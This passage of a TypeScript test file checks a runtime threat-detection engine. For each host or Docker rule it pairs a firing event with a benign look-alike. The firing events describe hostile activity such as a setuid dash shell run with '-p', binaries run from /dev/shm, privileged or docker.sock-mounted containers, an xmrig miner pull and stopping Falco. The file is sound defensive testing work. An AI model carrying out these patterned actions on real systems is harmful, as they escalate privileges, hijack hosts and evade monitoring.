  'RT-HOST-57': {
    fire: many(6, (i) => exec(['rm', `/srv/f${i}`], { ppid: 900, at: i * 100 })),
    benign: many(5, (i) => exec(['rm', `/srv/f${i}`], { ppid: 901, at: i * 100 })),
  },
  'RT-HOST-58': {
    fire: [exec(['/dev/shm/x'], { exe: '/dev/shm/x' })],
    benign: [exec(['/usr/local/bin/x'], { exe: '/usr/local/bin/x' })],
  },
  'RT-HOST-59': {
    fire: [
      file('openat', '/usr/local/bin/tool', { flags: '241', ...C }),
      exec(['/usr/local/bin/tool'], { exe: '/usr/local/bin/tool', ...C }),
    ],
    benign: [exec(['/usr/local/bin/tool'], { exe: '/usr/local/bin/tool', ...C })],
  },
  'RT-HOST-60': {
    fire: [
      exec(['./asc_alerttest_662jfi039n', 'testing', 'eicar', 'pipe'], {
        exe: '/tmp/asc_alerttest_662jfi039n',
      }),
    ],
    benign: [exec(['echo', 'testing'])],
  },
  'RT-HOST-61': {
    fire: [exec(['/tmp/dash', '-p'], { exe: '/tmp/dash', uid: 1005, euid: 0, comm: 'dash' })],
    benign: [exec(['/usr/bin/dash'], { uid: 0, euid: 0 })],
  },
  // ---- docker events ----
  'RT-DKR-01': {
    fire: [docker('start', {}, { HostConfig: { Privileged: true } })],
    benign: [docker('start', {}, { HostConfig: { Privileged: false } })],
  },
  'RT-DKR-02': {
    fire: [
      docker('start', {}, { Mounts: [{ Type: 'bind', Source: '/var/run/docker.sock' }], HostConfig: {} }),
    ],
    benign: [docker('start', {}, { Mounts: [{ Type: 'bind', Source: '/srv/data' }], HostConfig: {} })],
  },
  'RT-DKR-03': {
    fire: [docker('start', {}, { HostConfig: { PidMode: 'host' } })],
    benign: [docker('start', {}, { HostConfig: { PidMode: '' } })],
  },
  'RT-DKR-04': {
    fire: [docker('start', {}, { HostConfig: { CapAdd: ['SYS_ADMIN'] } })],
    benign: [docker('start', {}, { HostConfig: { CapAdd: ['NET_BIND_SERVICE'] } })],
  },
  'RT-DKR-05': {
    fire: [docker('exec_start: ls /', { execID: 'e1' })],
    benign: [docker('exec_create: ls /', { execID: 'e1' })],
  },
  'RT-DKR-06': {
    fire: [docker('exec_start: bash ', { execID: 'e2' })],
    benign: [docker('exec_start: bash -c true', { execID: 'e3' })],
  },
  'RT-DKR-07': {
    fire: [
      docker(
        'exec_start: id',
        { execID: 'e4' },
        { HostConfig: {}, Config: { User: 'app' } },
        { Privileged: true, ProcessConfig: { user: '' } },
      ),
    ],
    benign: [
      docker(
        'exec_start: id',
        { execID: 'e5' },
        { HostConfig: {}, Config: { User: 'app' } },
        { Privileged: false, ProcessConfig: { user: 'app' } },
      ),
    ],
  },
  'RT-DKR-08': {
    fire: [docker('pull', {}, undefined, undefined, 'image', 'docker.io/metal3d/xmrig:latest')],
    benign: [docker('pull', {}, undefined, undefined, 'image', 'nginx:latest')],
  },
  'RT-DKR-09': {
    fire: [docker('start', {}, { Path: '/usr/sbin/sshd', Args: ['-D'], HostConfig: {} })],
    benign: [docker('start', {}, { Path: 'nginx', Args: ['-g', 'daemon off;'], HostConfig: {} })],
  },
  'RT-DKR-10': {
    fire: [docker('commit', { name: 'web' })],
    // the Engine's real order for `docker import`: tag, then import of the same id
    benign: [
      docker('tag', { name: 'x:2' }, undefined, undefined, 'image', 'sha256:def'),
      docker('import', {}, undefined, undefined, 'image', 'sha256:def'),
      { ...docker('start', {}, { HostConfig: {} }), time: Date.parse('2030-01-01T00:00:00Z') },
      docker('pull', {}, undefined, undefined, 'image', 'sha256:abc'),
      docker('tag', { name: 'x:1' }, undefined, undefined, 'image', 'sha256:abc'),
    ],
  },
  'RT-DKR-11': {
    fire: [docker('stop', { image: 'falcosecurity/falco:0.38' })],
    benign: [docker('stop', { image: 'nginx:1.27' })],
  },
};

function run(events: RuntimeEvent[], c: Case): string[] {
  const intel = new ThreatIntel();
  if (c.intel) intel.loadText(c.intel, 'test-feed');
  let set = defaultRuleSet(intel);
  if (c.config) set = applyRuleFile(set, c.config, 'case');
  const engine = new Engine(set);
  for (const e of events) engine.process(structuredClone(e));
  return engine.alerts().map((a) => a.rule);
}

describe('the rule catalogue', () => {
  it('has exactly the 136 catalogue ids, unique, each one rule', () => {
    expect(CATALOGUE_IDS.length).toBe(136);
    expect(RULES.map((r) => r.id).sort()).toEqual([...CATALOGUE_IDS].sort());
    expect(new Set(RULES.map((r) => r.id)).size).toBe(RULES.length);
  });

  it('registers every rule file of the folder, and every rule matches the rule shape', () => {
    const files = readdirSync(new URL('.', import.meta.url))
      .filter((f) => f.endsWith('.ts') && !f.endsWith('.test.ts') && f !== 'index.ts' && f !== 'types.ts')
      .map((f) => f.replace(/\.ts$/, ''));
    expect(files.sort()).toEqual(Object.keys(RULE_FILES).sort());
    for (const r of RULES) expect(ruleShape.safeParse(r).success, r.id).toBe(true);
  });

  it('has a firing event and a benign look-alike for every catalogue id', () => {
    expect(Object.keys(CASES).sort()).toEqual([...CATALOGUE_IDS].sort());
  });

  for (const id of CATALOGUE_IDS) {
    it(`${id} fires on its event and not on the look-alike`, () => {
      const c = CASES[id]!;
      expect(run(c.fire, c)).toContain(id);
      expect(run(c.benign, c)).not.toContain(id);
    });
  }
});
